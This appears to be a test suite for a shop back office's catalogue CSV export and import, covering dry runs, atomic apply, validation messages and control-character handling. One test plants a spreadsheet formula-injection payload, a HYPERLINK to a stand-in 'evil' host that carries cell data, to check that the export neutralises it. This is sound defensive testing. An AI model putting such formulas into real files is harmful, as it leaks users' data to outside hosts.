/**
 * The catalogue CSV as a manager uses it: export the whole catalogue, import it back (a no-op), edit
 * prices, visibility and stock in a spreadsheet (`;` or `,`, with or without a BOM, quoted cells), see the
 * dry run list every change and every bad row (row number, reason in the request's language) while nothing
 * changes, apply it all in one transaction — or nothing when a row is bad or the catalogue moved since the
 * dry run — and find the stock changes as `import` movements and the import in the audit log. An export
 * never hands a spreadsheet a formula, and what it wrote reads back as it was.
 */
import fs from 'node:fs';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import { type StaffRole } from '../src/db/schema/index.js';
import { queryRows } from '../src/db/client.js';
import { neutraliseCell, parseCsv, restoreCell } from '../src/modules/catalog/csv.js';
import { DB_KINDS, type TestApp, bearer, createTestApp } from './helpers.js';
import { multipartBody, staffTokens } from './admin-catalog-helpers.js';

const R = '/backend/api/ext/v1/resources';

interface Report {
  token: string;
  counts: { rows: number; changed_rows: number; unchanged_rows: number; bad_rows: number; changes: number };
  changes: Array<{ row: number; sku: string; field: string; before: number | string | null; after: number | string | null }>;
  errors: Array<{ row: number; sku: string | null; column: string | null; message: string }>;
}

describe.each(DB_KINDS)('catalogue CSV import and export (%s)', (kind) => {
  let t: TestApp;
  let tokens: Record<StaffRole, string>;
  let storeCode: string;
  let storeId: number;

  const exportCsv = async () => {
    const res = await t.app.inject({ url: '/api/admin/catalog/export', headers: bearer(tokens.operator) });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="bozor-catalog-\d{4}-\d{2}-\d{2}\.csv"$/);
    return res.rawPayload;
  };
  const upload = (url: string, file: Buffer | string, lang = 'en', token?: string, name = 'prices.csv') =>
    t.app.inject({
      method: 'POST',
      url,
      ...(() => {
        const body = multipartBody([...(token ? [{ field: 'token', data: token }] : []), { field: 'file', filename: name, type: 'text/csv', data: file }]);
        return { payload: body.payload, headers: { ...body.headers, ...bearer(tokens.manager), 'x-lang': lang } };
      })(),
    });
  const dryRun = async (file: Buffer | string, lang = 'en') => {
    const res = await upload('/api/admin/catalog/import/dry-run', file, lang);
    expect([res.statusCode, res.statusCode === 200 ? '' : res.body]).toEqual([200, '']);
    return res.json() as Report;
  };
  /** Everything an import can change, to compare before and after. */
  const snapshot = () =>
    queryRows<Record<string, unknown>>(
      t.database.db,
      sql`select v.sku, v.price_individual, v.price_legal, v.old_price_individual, v.old_price_legal, p.status, p.visible_to, p.price_individual as pp,
            (select jsonb_object_agg(s.store_id, s.quantity) from variant_stock s where s.variant_id = v.id) as stock
          from variants v join products p on p.id = v.product_id order by v.id`,
    );
  async function sample(n: number) {
    return queryRows<{ sku: string; product_id: number; slug: string; price_individual: number; price_legal: number; variant_id: number }>(
      t.database.db,
      sql`select v.sku, v.product_id, p.slug, v.price_individual, v.price_legal, v.id as variant_id from variants v join products p on p.id = v.product_id
          where p.status = 'active' and p.visible_to is null order by v.id limit ${n}`,
    );
  }

  beforeAll(async () => {
    t = await createTestApp(kind, { seed: true });
    const [store] = await queryRows<{ id: number; slug: string }>(t.database.db, sql`select id, slug from stores order by sort, id limit 1`);
    storeCode = store!.slug;
    storeId = store!.id;
    tokens = await staffTokens(t, storeId);
  }, 120_000);
  afterAll(async () => t.close());

  test('the example file of docs/back-office.md reads without a bad row on the demo catalogue', async () => {
    const file = fs.readFileSync(path.join(import.meta.dirname, '../../docs/catalog-import-example.csv'));
    const report = await dryRun(file, 'uz');
    expect(report.errors).toEqual([]);
    expect(report.counts).toMatchObject({ rows: 6, bad_rows: 0 });
    expect(report.changes).toEqual(
      expect.arrayContaining([
        { row: 6, sku: 'TEF-KO2576-SILVER', field: 'price_individual', before: 392_000, after: 379_000 },
        { row: 7, sku: 'SAM-MS23K3439-WHITE', field: 'visibility', before: 'shown', after: 'wholesale' },
        { row: 3, sku: 'RED-RMC-M81-SILVER', field: `stock:chilonzor`, before: 14, after: 20 },
      ]),
    );
  });

  test('export → import is a no-op: every row unchanged, and applying it changes nothing', async () => {
    const file = await exportCsv();
    expect(file.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const [header] = parseCsv(file.toString('utf8').slice(1), ';');
    expect(header!.cells.slice(0, 8)).toEqual(['sku', 'product', 'options', 'price_individual', 'price_legal', 'old_price_individual', 'old_price_legal', 'visibility']);
    expect(header!.cells).toContain(`stock:${storeCode}`);
    const before = await snapshot();
    const report = await dryRun(file);
    expect(report.errors).toEqual([]);
    expect(report.changes).toEqual([]);
    const [{ n }] = (await queryRows<{ n: number }>(t.database.db, sql`select count(*)::int as n from variants v join products p on p.id = v.product_id where p.status <> 'archived'`)) as [{ n: number }];
    expect(report.counts).toEqual({ rows: n, changed_rows: 0, unchanged_rows: n, bad_rows: 0, changes: 0 });
    const applied = await upload('/api/admin/catalog/import/apply', file, 'en', report.token);
    expect(applied.statusCode).toBe(200);
    expect(await snapshot()).toEqual(before);
  });

  test('a `,` file without BOM, quoted cells: the dry run lists every change and writes nothing; apply writes them all, reaching the shop', async () => {
    const [a, b] = await sample(2);
    const file = [
      `sku,product,price_individual,old_price_individual,stock:${storeCode}`,
      `${a!.sku},"Choynak, ""oq""",${a!.price_individual - 1000},"${(a!.price_individual + 50_000).toLocaleString('ru-RU')}",1234`,
      `${b!.sku},"multi`,
      `line",${b!.price_individual},,0`,
      '',
    ].join('\r\n');
    const before = await snapshot();
    const report = await dryRun(file);
    expect(report.errors).toEqual([]);
    expect(report.changes).toEqual(
      expect.arrayContaining([
        { row: 2, sku: a!.sku, field: 'price_individual', before: a!.price_individual, after: a!.price_individual - 1000 },
        expect.objectContaining({ row: 2, sku: a!.sku, field: 'old_price_individual', after: a!.price_individual + 50_000 }),
        expect.objectContaining({ row: 2, sku: a!.sku, field: `stock:${storeCode}`, after: 1234 }),
      ]),
    );
    expect(report.counts.rows).toBe(2);
    expect(await snapshot()).toEqual(before);

    const applied = await upload('/api/admin/catalog/import/apply', file, 'en', report.token, 'morning.csv');
    expect(applied.statusCode).toBe(200);
    expect(applied.json()).toMatchObject({ file_name: 'morning.csv', counts: report.counts });
    const page = await t.app.inject({ url: `${R}/product/${a!.slug}` });
    const variant = page.json().product.variants.find((v: { sku: string }) => v.sku === a!.sku);
    expect(variant.price).toBe(a!.price_individual - 1000);
    expect(variant.stock.find((s: { store_id: number }) => s.store_id === storeId).quantity).toBe(1234);
    const cart = await t.app.inject({ method: 'POST', url: '/api/cart/check', payload: { cart_data: [{ product_id: a!.product_id, variant_id: a!.variant_id, quantity: 1 }] } });
    expect(cart.json().data[0].price).toBe(a!.price_individual - 1000);

    const history = (await t.app.inject({ url: `/api/admin/variants/${a!.variant_id}/stock-movements`, headers: bearer(tokens.manager) })).json();
    expect(history.data[0]).toMatchObject({ reason: 'import', quantity_after: 1234, note: 'morning.csv', staff: { name: 'manager person' } });
    const [audit] = await queryRows<{ after: Record<string, unknown> }>(t.database.db, sql`select after from audit_log where action = 'catalog.import' order by id desc limit 1`);
    expect(audit!.after).toMatchObject({ file_name: 'morning.csv', rows: 2, changed_rows: report.counts.changed_rows, bad_rows: 0 });
    // the product's and the variant's own history have it too, as a change by hand would be written
    const log = async (q: string) => (await t.app.inject({ url: `/api/admin/audit?${q}`, headers: bearer(tokens.owner) })).json().data;
    const [product] = await log(`entity=product&entity_id=${a!.product_id}&action=product.update`);
    expect(product).toMatchObject({ staff: { name: 'manager person' }, before: { file_name: 'morning.csv' }, after: { file_name: 'morning.csv' } });
    expect(product.before.variants).toEqual([expect.objectContaining({ id: a!.variant_id, sku: a!.sku, price_individual: a!.price_individual })]);
    expect(product.after.variants).toEqual([
      expect.objectContaining({ id: a!.variant_id, sku: a!.sku, price_individual: a!.price_individual - 1000, old_price_individual: a!.price_individual + 50_000 }),
    ]);
    const [move] = await log(`entity=variant&entity_id=${a!.variant_id}&action=stock.move`);
    expect(move).toMatchObject({ before: { sku: a!.sku, store_id: storeId }, after: { sku: a!.sku, store_id: storeId, quantity: 1234, reason: 'import', note: 'morning.csv' } });
  });

  test('a file with bad rows among good ones: the dry run names each bad row and why (in Russian), and apply writes nothing, not even the good rows', async () => {
    const [a, b, c] = await sample(3);
    const file = `\ufeffsku;price_individual;price_legal;visibility;stock:${storeCode}\n${a!.sku};1000;900;hidden;3\n${b!.sku};12x;900;shown;\nNOPE-SKU;1000;900;;\n${c!.sku};1000;900;secret;-1\n`;
    const report = await dryRun(file, 'ru');
    expect(report.counts).toMatchObject({ rows: 4, bad_rows: 3, changed_rows: 1 });
    expect(report.errors).toEqual(
      expect.arrayContaining([
        { row: 3, sku: b!.sku, column: 'price_individual', message: 'Не целое число: «12x».' },
        { row: 4, sku: 'NOPE-SKU', column: 'sku', message: 'Варианта с таким артикулом нет.' },
        { row: 5, sku: c!.sku, column: 'visibility', message: 'Видимость: shown, hidden, wholesale или retail.' },
        expect.objectContaining({ row: 5, column: `stock:${storeCode}` }),
      ]),
    );
    const before = await snapshot();
    const applied = await upload('/api/admin/catalog/import/apply', file, 'ru', report.token);
    expect(applied.statusCode).toBe(422);
    expect(applied.json().error).toMatchObject({ code: 'IMPORT_INVALID', message: 'В файле 3 строк с ошибками: ничего не изменено.' });
    expect(applied.json().error.report.errors).toHaveLength(report.errors.length);
    expect(await snapshot()).toEqual(before);
    // The product of the good row is still shown.
    expect((await t.app.inject({ url: `${R}/product/${a!.slug}` })).statusCode).toBe(200);
  });

  test('a price takes spaces between thousands only: "12 500" reads, "3 9 2 0 0 1" and "39 2000" are typos; ",00" is whole', async () => {
    const [a, b, c, d, e] = await sample(5);
    // (prices under any old price, which must stay above them)
    const file =
      `sku;price_individual;price_legal\n${a!.sku};12 500;12\u00a0000\n${b!.sku};3 9 2 0 0 1;900\n${c!.sku};39 2000;900\n` +
      // as accounting exports write money: a fraction of zeros is a whole price; "1.000" could be a thousand
      `${d!.sku};13 500,00;13000.00\n${e!.sku};1.000;900\n`;
    const report = await dryRun(file, 'en');
    expect(report.counts).toMatchObject({ rows: 5, bad_rows: 3 });
    expect(report.errors.map((e) => [e.row, e.column])).toEqual([
      [3, 'price_individual'],
      [4, 'price_individual'],
      [6, 'price_individual'],
    ]);
    expect(report.changes.filter((c) => c.sku === d!.sku).map((c) => [c.field, c.after])).toEqual([
      ['price_individual', 13_500],
      ['price_legal', 13_000],
    ]);
  });

  test('apply refuses when the catalogue changed since the dry run; a hidden visibility takes the product out of the shop', async () => {
    const [, , , d] = await sample(4);
    const file = `sku;price_individual;visibility\n${d!.sku};${d!.price_individual + 1000};hidden\n`;
    const report = await dryRun(file);
    expect(report.changes.map((c) => c.field)).toEqual(['price_individual', 'visibility']);
    // Meanwhile someone changes that price by hand.
    await t.database.db.execute(sql`update variants set price_individual = price_individual + 1 where sku = ${d!.sku}`);
    const stale = await upload('/api/admin/catalog/import/apply', file, 'en', report.token);
    expect([stale.statusCode, stale.json().error.code]).toEqual([409, 'IMPORT_STALE']);
    const again = await dryRun(file);
    const applied = await upload('/api/admin/catalog/import/apply', file, 'en', again.token);
    expect(applied.statusCode).toBe(200);
    expect((await t.app.inject({ url: `${R}/product/${d!.slug}` })).statusCode).toBe(404);
  });

  test('file problems are a 422 naming the file: not UTF-8, no sku column, an unknown column or store', async () => {
    const cases: Array<[Buffer | string, string]> = [
      [Buffer.from([0x73, 0x6b, 0x75, 0x0a, 0xff, 0xfe, 0x0a]), 'UTF-8'],
      ['price_individual;price_legal\n1;2\n', 'sku'],
      ['sku;colour\nA;b\n', 'colour'],
      ['sku;stock:nowhere\nA;1\n', 'stock:nowhere'],
    ];
    for (const [file, mention] of cases) {
      const res = await upload('/api/admin/catalog/import/dry-run', file);
      expect([res.statusCode, res.json().error.code]).toEqual([422, 'IMPORT_FILE_INVALID']);
      expect(res.json().error.message).toContain(mention);
      expect(Object.keys(res.json().error.fields)).toEqual(['file']);
    }
    const noFile = await t.app.inject({ method: 'POST', url: '/api/admin/catalog/import/dry-run', headers: { ...bearer(tokens.manager), 'content-type': 'application/json' }, payload: {} });
    expect(noFile.statusCode).toBe(422);
  });

  test('the export hands a spreadsheet no formula: a cell starting with = + - @ gets a \' first, and the import reads each back as it was', async () => {
    const [v, w] = await queryRows<{ id: number; product_id: number; price_individual: number }>(
      t.database.db,
      sql`select v.id, v.product_id, v.price_individual from variants v join products p on p.id = v.product_id
          where p.status = 'active' and jsonb_array_length(v.options) > 0 order by v.id desc limit 2`,
    );
    const hyperlink = '=HYPERLINK("http://evil/?d="&B3,"Ochish")';
    await t.database.db.execute(sql`update products set name = jsonb_set(name, '{uz}', to_jsonb(${hyperlink}::text)) where id = ${v!.product_id}`);
    await t.database.db.execute(sql`update variants set sku = '-5', options = jsonb_set(options, '{0,label,uz}', '"@SUM(1)"') where id = ${v!.id}`);
    await t.database.db.execute(sql`update variants set sku = '+998901234567' where id = ${w!.id}`);

    const file = await exportCsv();
    const records = parseCsv(file.toString('utf8').slice(1), ';');
    const row = records.find((r) => r.cells[0] === "'-5")!;
    expect(row.cells[1]).toBe(`'${hyperlink}`);
    expect(row.cells[2]).toMatch(/^'@SUM\(1\)/);
    expect(records.find((r) => r.cells[0] === "'+998901234567")).toBeDefined();
    expect(records.flatMap((r) => r.cells).filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // read back: every row as it is
    const roundTrip = await dryRun(file);
    expect([roundTrip.errors, roundTrip.changes]).toEqual([[], []]);

    // as a manager edits it: the ' stays in front of what the export wrote; a price "-5" is still a negative price
    const edited = await dryRun(`sku;price_individual\n'-5;${v!.price_individual + 1000}\n'+998901234567;'-5\n`);
    expect(edited.changes).toEqual([{ row: 2, sku: '-5', field: 'price_individual', before: v!.price_individual, after: v!.price_individual + 1000 }]);
    expect(edited.errors).toEqual([{ row: 3, sku: '+998901234567', column: 'price_individual', message: 'The price is 1 to 2 000 000 000 soʻm.' }]);

    // Values that truly start with apostrophes come back with all of them.
    for (const value of ['-5', '+998901234567', '=1+1', '@SUM(1)', '\t=1', '\r=1', "'=1", "''-5", "'plain", "'", 'plain', '', '5-1']) {
      expect(neutraliseCell(value)).not.toMatch(/^[=+\-@\t\r]/);
      expect(restoreCell(neutraliseCell(value))).toBe(value);
    }
  });

  test('a NUL or another control character in a cell or in the file name is a 422 naming the file (and the cell), never a 500', async () => {
    const [a] = await sample(1);
    for (const [file, cell] of [
      [`sku;price_individual\n${a!.sku}\u0000;100\n`, 'row 2, column “sku”'],
      [`sku;price_individual\n${a!.sku};12\u001b500\n`, 'row 2, column “price_individual”'],
      [`sku;product;price_individual\n${a!.sku};Choy\u0000nak;100\n`, 'row 2, column “product”'],
    ]) {
      const res = await upload('/api/admin/catalog/import/dry-run', file!);
      expect([res.statusCode, res.json().error.code, res.json().error.fields]).toEqual([422, 'IMPORT_FILE_INVALID', { file: 'Contains characters that are not allowed (such as control characters or broken Unicode).' }]);
      expect(res.json().error.message).toContain(cell);
    }
    const good = `sku;price_individual\n${a!.sku};${a!.price_individual + 1}\n`;
    for (const url of ['/api/admin/catalog/import/dry-run', '/api/admin/catalog/import/apply']) {
      const named = await upload(url, good, 'en', 'token', 'prices\u0000.csv');
      expect([named.statusCode, named.json().error.fields]).toEqual([422, { file: 'Contains characters that are not allowed (such as control characters or broken Unicode).' }]);
    }
  });
});
